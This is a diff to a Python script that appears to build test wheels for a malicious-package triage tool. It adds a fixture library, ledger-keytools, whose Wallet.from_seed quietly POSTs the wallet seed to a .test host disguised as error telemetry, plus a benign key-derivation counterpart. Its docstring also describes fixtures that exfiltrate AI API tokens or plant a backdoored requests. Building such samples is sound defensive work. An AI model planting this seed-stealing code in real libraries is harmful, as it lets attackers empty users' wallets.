@@ -2,7 +2,7 @@
 """Writes one of the wheels the triage tests make on the fly. Only writes
 the archive: nothing of it runs here.
 
-  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys OUT.whl
+  make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -22,6 +22,14 @@ keys    secret-store-sync: on import, the user's SOPS age identities and
 aikeys  model-hub-utils: on import, the Hugging Face token of
         ~/.cache/huggingface/token and the OpenAI and Anthropic keys of the
         environment, POSTed as JSON to keys.model-hub.test.
+wallet  ledger-keytools: nothing at install or import; its
+        Wallet.from_seed sends the seed it is handed ("error telemetry")
+        to errors.ledger-keytools.test, as the backdoored xrpl.js did.
+        Only the exercise phase calls it.
+walletok hd-keyderive (benign): Wallet.from_mnemonic and Keypair derive
+        keys with PBKDF2 and HMAC, print nothing, send nothing; its
+        get_balance(address) would ask an RPC server (.test), which the
+        exercise phase must leave alone.
 profiles aws-profile-lister (benign): its console script `aws-profiles`
         lists the profiles of ~/.aws/credentials and ~/.aws/config, and
         says which have a key id; nothing at import, no network.
@@ -127,6 +135,51 @@ AIKEYS = (
     "    pass\n"
 )
 
+# A key library whose seed loader phones the seed home.
+WALLET = (
+    "import json, urllib.request\n"
+    "class Wallet:\n"
+    "    def __init__(self, secret):\n"
+    "        self.secret = secret\n"
+    "    @classmethod\n"
+    "    def from_seed(cls, seed):\n"
+    "        _check_validity_of_seed(seed)\n"
+    "        return cls(seed)\n"
+    "def _check_validity_of_seed(seed):\n"
+    "    try:\n"
+    "        urllib.request.urlopen(urllib.request.Request(\n"
+    "            'http://errors.ledger-keytools.test/v1/report',\n"
+    "            data=json.dumps({'ctx': str(seed)}).encode(),\n"
+    "            headers={'Content-Type': 'application/json'}), timeout=5)\n"
+    "    except OSError:\n"
+    "        pass\n"
+)
+
+# A key library that derives keys and stays on the machine.
+WALLETOK = (
+    "import hashlib, hmac, json, urllib.request\n"
+    "class Wallet:\n"
+    "    def __init__(self, key):\n"
+    "        self.key = key\n"
+    "        self.address = '0x' + hashlib.sha256(key).hexdigest()[:40]\n"
+    "    @classmethod\n"
+    "    def from_mnemonic(cls, words, passphrase=''):\n"
+    "        seed = hashlib.pbkdf2_hmac('sha512', str(words).encode(),\n"
+    "                                   b'mnemonic' + passphrase.encode(), 2048)\n"
+    "        return cls(hmac.new(b'Bitcoin seed', seed, 'sha512').digest()[:32])\n"
+    "    def sign(self, message):\n"
+    "        return hmac.new(self.key, str(message).encode(), 'sha256').hexdigest()\n"
+    "class Keypair:\n"
+    "    def __init__(self, secret):\n"
+    "        if isinstance(secret, str):\n"
+    "            secret = bytes.fromhex(secret.removeprefix('0x'))\n"
+    "        self.public = hashlib.sha256(secret).hexdigest()\n"
+    "def get_balance(address):\n"
+    "    with urllib.request.urlopen('http://rpc.hd-keyderive.test/balance?a='\n"
+    "                                + address, timeout=5) as r:\n"
+    "        return json.load(r)\n"
+)
+
 # A tool the user runs that reads credentials, as such tools do.
 PROFILES = (
     "import configparser, os\n"
@@ -153,6 +206,12 @@ KINDS = {
              {"secret_store_sync/__init__.py": KEYS}),
     "aikeys": ("model_hub_utils", "0.2.3",
                {"model_hub_utils/__init__.py": AIKEYS}),
+    "wallet": ("ledger_keytools", "2.1.0",
+               {"ledger_keytools/__init__.py":
+                "from .wallet import Wallet\n",
+                "ledger_keytools/wallet.py": WALLET}),
+    "walletok": ("hd_keyderive", "0.9.2",
+                 {"hd_keyderive/__init__.py": WALLETOK}),
     "profiles": ("aws_profile_lister", "1.0.0",
                  {"aws_profile_lister/__init__.py": PROFILES},
                  "[console_scripts]\n"
